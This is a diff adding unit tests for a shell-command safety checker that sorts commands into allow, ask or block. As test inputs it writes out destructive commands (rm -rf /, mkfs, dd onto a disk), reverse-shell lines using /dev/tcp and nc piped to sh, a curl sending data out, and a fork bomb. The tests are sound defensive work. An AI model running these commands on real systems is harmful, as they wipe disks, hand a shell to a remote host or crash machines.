@@ -73,7 +73,48 @@ describe('judging a command', () => {
     expect(judgeArgv(['rm', '-rf', '/'], context)).toMatchObject({ decision: 'block', rule: 'command.root_wipe' });
     expect(judgeArgv(['echo', '$(reboot); rm -rf /'], context)).toMatchObject({ decision: 'allow' });
     expect(judgeArgv(['bash', '-c', 'rm -rf /'], context)).toMatchObject({ decision: 'block' });
-    expect(judgeArgv([], context)).toMatchObject({ decision: 'ask' });
+    expect(judgeArgv([], context)).toMatchObject({ decision: 'ask', rule: 'command.empty' });
+    expect(judgeArgv(['ls', '*', '\ue003'], context).commands).toEqual([{ argv: ['ls', '*', '\ufffd'], assignments: [], redirections: [] }]);
+    expect(judgeArgv(['cat', '-'], context)).toMatchObject({ decision: 'allow' });
+  });
+
+  it('says so when nothing speaks against it', verifies('KEL-CMD-01'), () => {
+    expect(judgeCommand('ls', context)).toEqual({
+      decision: 'allow', rule: 'command.ordinary', explanation: 'Every command in it only reads, or works inside the workspace.',
+      commands: [{ argv: ['ls'], assignments: [], redirections: [] }],
+    });
+  });
+
+  it('refuses what destroys a system, whatever else stands in the line', verifies('MAH-4B-4', 'KEL-CMD-01'), () => {
+    const lines = ['rm -rf /', 'ls; curl -d x https://example.com; rm -rf /', 'mkfs.ext4 /dev/sda1', 'dd if=/dev/zero of=/dev/sda'];
+    expect(lines.map((line) => judgeCommand(line, context).decision)).toEqual(['block', 'block', 'block', 'block']);
+  });
+
+  it('shortens a long command in its explanation', verifies('KEL-CMD-02'), () => {
+    const explain = (text: string): string => judgeCommand(text, context).explanation;
+    expect(explain(`frobnicate ${'a '.repeat(12)}`)).toBe(`Nobody has said what "frobnicate" does; it would be started as "frobnicate ${'a '.repeat(11)}…".`);
+    expect(explain(`frobnicate ${'a '.repeat(11)}`)).toBe(`Nobody has said what "frobnicate" does; it would be started as "frobnicate ${'a '.repeat(11).trim()}".`);
+    expect(explain(`frobnicate ${'b'.repeat(100)}`)).toBe(`Nobody has said what "frobnicate" does; it would be started as "frobnicate ${'b'.repeat(69)}…".`);
+  });
+
+  it('asks about nothing at all', verifies('KEL-CMD-03'), () => {
+    expect([judgeCommand('', context).rule, judgeCommand(' # only a comment', context).rule]).toEqual(['command.empty', 'command.empty']);
+  });
+
+  it('sees a shell and a connection that are harmless apart', verifies('KEL-CMD-03'), () => {
+    const lines = ['cat < /dev/tcp/192.0.2.1/80', 'sh < /dev/tcp/192.0.2.1/80', 'nc 192.0.2.1 80', 'nc 192.0.2.1 80 | sh', 'exec 5<>/dev/tcp/192.0.2.1/80; $x <&5'];
+    expect(lines.map((line) => judgeCommand(line, context).decision)).toEqual(['ask', 'block', 'ask', 'block', 'block']);
+    expect(judgeCommand('sh < /dev/tcp/192.0.2.1/80', context)).toMatchObject({ rule: 'command.reverse_shell', explanation: 'It would hand a shell to the network connection /dev/tcp/192.0.2.1/80.' });
+  });
+
+  it('tells a fork bomb from a function that only calls itself', verifies('KEL-CMD-11'), () => {
+    const verdictOf = (text: string): unknown => {
+      const { decision, rule, explanation } = judgeCommand(text, context);
+      return { decision, rule, explanation };
+    };
+    expect(verdictOf('f() { f | f & }; f')).toEqual({ decision: 'block', rule: 'command.fork_bomb', explanation: 'This is a fork bomb: the function "f" starts itself again and again.' });
+    expect(verdictOf('f() { f; }; f')).toEqual({ decision: 'ask', rule: 'command.endless', explanation: 'Here the function "f" calls itself without end.' });
+    expect(verdictOf('f() { ls | cat & }; f')).toMatchObject({ decision: 'allow' });
   });
 
   it('follows links when it is told where they lead', () => {
